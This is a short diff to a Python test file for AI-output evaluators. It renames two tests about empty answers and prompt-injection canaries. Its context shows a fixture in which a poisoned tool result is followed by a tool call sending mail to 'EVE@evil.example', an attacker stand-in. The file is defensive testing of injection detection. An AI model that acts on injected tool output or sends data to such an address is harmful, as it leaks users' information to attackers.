@@ -73,7 +73,7 @@ def test_both_put_the_same_question_so_that_a_model_is_asked_once() -> None:
 
 @pytest.mark.parametrize("evaluator", [Toxicity(), Bias(), PIILeakage()])
 @pytest.mark.parametrize("answer", ["", " \n", None])
-def test_an_empty_answer_does_no_harm_and_nobody_is_asked(evaluator: Any, answer: Any) -> None:
+def test_an_empty_answer_does_no_harm_and_no_judge_is_asked(evaluator: Any, answer: Any) -> None:
     judge = ScriptedJudge()
     assert judged(evaluator, seen(answer), judge).score == 1
     assert judge.asked == []
@@ -208,7 +208,7 @@ def test_where_nothing_tried_to_steer_there_is_no_verdict() -> None:
         judged(PromptInjection(), seen("Nine.", question=""))
 
 
-def test_a_canary_that_came_up_fails_without_asking_anybody() -> None:
+def test_a_canary_that_came_up_fails_without_asking_a_judge() -> None:
     judge = ScriptedJudge()
     sent = ToolCall("send", {"to": "EVE@evil.example"})
     evaluable = seen("Done.", "Any mail?", tool_calls=(POISON, sent))
